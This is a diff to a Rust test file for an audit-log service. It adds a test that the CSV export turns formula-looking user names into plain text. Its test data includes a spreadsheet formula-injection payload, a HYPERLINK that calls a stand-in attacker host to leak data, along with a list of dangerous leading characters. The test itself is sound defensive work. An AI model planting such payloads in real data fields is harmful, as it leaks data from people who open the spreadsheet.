@@ -1,7 +1,7 @@
 //! The audit log: a chain that verifies after real use, a database that refuses changes,
 //! tampering of every kind found and named (in SQLite and PostgreSQL), concurrent writers
 //! forming one chain, the `audit verify` command, the viewer's scopes and filters, the
-//! exports, and request ids tying rows to the logs.
+//! exports (formula-looking values shown as text), and request ids tying rows to the logs.
 
 use diesel::prelude::*;
 use reqwest::StatusCode;
@@ -343,6 +343,77 @@ async fn exports_stream_every_row_in_scope() {
         .collect();
     assert!(!parsed.is_empty());
     assert!(parsed.iter().all(|v| v["action"] == "request.filed" && v["hash"].as_str().map(str::len) == Some(64)));
+}
+
+/// Names a provider may send that a spreadsheet would run as formulas.
+const FORMULAS: [&str; 5] = [
+    "=HYPERLINK(\"http://evil.example/?leak\",\"Klik her\")",
+    "+1",
+    "-2+3",
+    "@SUM(1)",
+    "-5",
+];
+
+#[tokio::test]
+async fn the_csv_export_shows_formula_like_values_as_text() {
+    let provider = OidcProvider::shared();
+    let app = spawn_app_with(Options {
+        oidc_issuer: Some(provider.issuer.clone()),
+        oidc_organisation_claim: true,
+        ..Options::default()
+    })
+    .await;
+    // People the provider names, made municipal officers by its organisation claim: each
+    // sign-in writes audit rows with that name as the actor.
+    for (n, name) in FORMULAS.iter().enumerate() {
+        let sub = format!("csv-{n}-{}", uuid::Uuid::now_v7().simple());
+        provider
+            .register(serde_json::json!({
+                "sub": sub, "email": format!("csv{n}@frederiksberg.example.dk"),
+                "name": name, "organisation": "147"
+            }))
+            .await;
+        let (_, page) = crate::oidc::sign_in(&app, &sub).await;
+        assert_eq!(page.status, StatusCode::SEE_OTHER, "{name}: {}", page.body);
+    }
+    let operator = app.login_as(OPERATOR).await;
+    let export = operator.get("/audit/export.csv").await;
+    assert_eq!(export.status, StatusCode::OK);
+    assert!(
+        export.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Klik her\"\")\""),
+        "quoted as the csv crate quotes, quotes doubled"
+    );
+    let mut reader = csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .from_reader(export.body.trim_start_matches('\u{feff}').as_bytes());
+    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("record")).collect();
+    let cells: Vec<&str> = records.iter().flat_map(|r| r.iter()).collect();
+    let dangerous = ['=', '+', '-', '@', '\t', '\r'];
+    let live: Vec<&&str> = cells.iter().filter(|c| c.starts_with(dangerous)).collect();
+    assert!(
+        live.is_empty(),
+        "cells a spreadsheet would evaluate: {live:?}"
+    );
+    for name in FORMULAS {
+        assert!(
+            records.iter().any(|r| r[2] == format!("'{name}")),
+            "{name} is in the export as text"
+        );
+    }
+    // What must stay readable does: numbers and times are untouched, an ordinary name too,
+    // and a program gets each original back by dropping one leading apostrophe.
+    assert!(records.iter().all(|r| r[0].parse::<i64>().is_ok()));
+    assert!(records.iter().all(|r| r[1].starts_with("20")));
+    assert!(
+        records
+            .iter()
+            .any(|r| &r[2] == "Systemet" || r[2].starts_with("Sofie"))
+    );
+    assert!(
+        records
+            .iter()
+            .any(|r| r[2].strip_prefix('\'') == Some("-5"))
+    );
 }
 
 #[tokio::test]
